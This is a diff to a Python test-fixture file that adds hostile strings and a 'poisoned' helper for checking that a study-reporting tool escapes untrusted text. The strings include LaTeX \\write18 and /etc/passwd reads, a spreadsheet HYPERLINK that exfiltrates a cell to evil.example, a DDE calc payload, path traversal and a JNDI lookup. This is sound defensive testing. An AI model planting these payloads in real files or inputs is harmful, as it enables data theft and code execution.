@@ -24,6 +24,25 @@ HOSTILE = (
     "x" * 200,
     "javascript:alert(1)",
     "]]>&amp;<!--",
+    "\\input{/etc/passwd} $x$ 5 % & #1 a_b ^c ~d {e}",
+    "\\end{table}\\write18{id}",
+    '=HYPERLINK("https://evil.example/?x="&A1;"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\x1b[31mred\x1b[0m\x07\x1b]0;title\x07",
+    "\x9b2Jc1",
+    "\x00null",
+    "\U0001f469\u200d\U0001f52c\U0001f525 emoji",
+    "`code` **bold** [link](javascript:alert(1)) | cell ![i](x) ~~s~~",
+    "a \"quoted\" 'name', with; separators",
+    "two\nlines\r\nand # three",
+    "x;}body{display:none}/*",
+    "&lt;b&gt; &#x3C;script&#x3E; &quot;",
+    "\u2066isolate\u2069 zero\u200bwidth\ufeff",
+    "../../etc/passwd",
+    "${jndi:ldap://x} <%= 7 %> #{7}",
 )
 VERDICTS = ("exact", "reproduced", "direction_reproduced", "inconclusive", "not_reproduced", "not_testable")
 
@@ -634,13 +653,17 @@ def hostile() -> Bundle:
         update={"citation": HOSTILE[2], "url": HOSTILE[7], "doi": HOSTILE[7], "summary": HOSTILE[3]}
     )
     claims = tuple(
-        c.model_copy(update={"where": HOSTILE[i % 9], "note": HOSTILE[(i + 1) % 9]}) for i, c in enumerate(made.claims)
+        c.model_copy(update={"where": HOSTILE[i], "note": HOSTILE[i + 1]}) for i, c in enumerate(made.claims)
     )
     made = made.model_copy(update={"paper": paper, "claims": claims})
     classes = [HOSTILE[0], HOSTILE[1], HOSTILE[6]]
     parts = profile(made, 178, list(HOSTILE), classes)
+    own = {name: set(HOSTILE[i::3]) for i, name in enumerate(made.datasets)}  # each a third of them as columns
+    for name in ("columns", "histograms", "boxes", "correlations"):
+        keys = ("a", "b") if name == "correlations" else ("column",)
+        parts[name] = [row for row in parts[name] if {row[key] for key in keys} <= own[row["dataset"]]]
     changed = {name: frames.of_rows(rows, frames.PROFILE[name]) for name, rows in parts.items()}
-    changed["tables"] = frames.of_rows(tables(made, 178, 9, classes), frames.TABLES)
+    changed["tables"] = frames.of_rows(tables(made, 178, len(HOSTILE) // 3, classes), frames.TABLES)
     changed["predictions"] = frames.of_rows(predictions(made, 178, classes), frames.CLASSIFICATION)
     for name, column in (
         ("verdicts", "reason"),
@@ -659,6 +682,43 @@ def hostile() -> Bundle:
         "trusted_code": list(HOSTILE),
     }
     return Bundle(made, base.frames | changed, provenance)
+
+
+def poisoned(text: str) -> Bundle:
+    """A small study in which one text is every name, title, reason and remark: two families, two classes."""
+    names = {"wine": {"source": {"kind": "sklearn", "name": "wine"}, "target": text, "title": text}}
+    claim = {"id": "one", "kind": "value", "dataset": "wine", "family": "lda", "metric": "accuracy", "value": "94.2",
+             "unit": "percent", "where": text, "note": text, "verified": True}  # fmt: skip
+    made = study(
+        "poisoned", title=text, question=text, datasets=names, claims=[claim], expect=text, deviations=[text],
+        families={"lda": {"title": text}, "svm": {"title": f"{text} 2"}},
+        paper={"citation": text, "year": 1999, "url": f"https://example.org/{text}", "doi": f"10.1/{text}",
+               "summary": text},
+        tolerance={"accuracy": 0.01, "why": text}, checklist={"1a": text, "2a": text},
+        compare={"level": 0.95, "rope": 0.01, "why": text}, metrics={"primary": "accuracy"},
+    )  # fmt: skip
+    classes = [text, f"{text} 2"]
+    given = scores(made, 30, lambda d, f, m: 0.93 if f == "lda" else 0.9)
+    given += [row | {"family": f"{text} 3"} for row in given if row["family"] == "lda"]  # a name, as tables give them
+    key = {"dataset": "wine", "family": "lda", "variant": "plain", "repeat": 0, "fold": 0, "policy": text}
+    finding = {"code": "L2", "diagnostic": "leakage", "dataset": "wine", "outcome": "found", "severity": "note"}
+    step = {"dataset": "wine", "order": 0, "step": "drop_duplicates", "parameters": text, "example": text}
+    sizes = ("rows_before", "rows_after", "columns_before", "columns_after", "cells_changed")
+    remark = {"dataset": "wine", "code": "id_like", "column": text, "severity": "note", "count": 1, "reason": text}
+    return made_of(
+        made,
+        tables=[row | {"source": text} for row in tables(made, 30, 3, classes)],
+        folds=folds(made, 30),
+        scores=given,
+        comparisons=comparisons(made, given, 0.02),
+        verdicts=[verdict("one", "not_reproduced", "wine", "lda", "94.2", reason=text, protocol_match=text)],
+        predictions=predictions(made, 30, classes),
+        failures=[key | {"status": "warning", "stage": "fit", "reason": text}],
+        findings=[finding | {"reason": text}],
+        cleaning=[step | dict.fromkeys(sizes, 3)],
+        remarks=[remark],
+        **profile(made, 30, [text, f"{text} 2", "plain"], classes),
+    )
 
 
 def _cycled(n: int) -> Any:
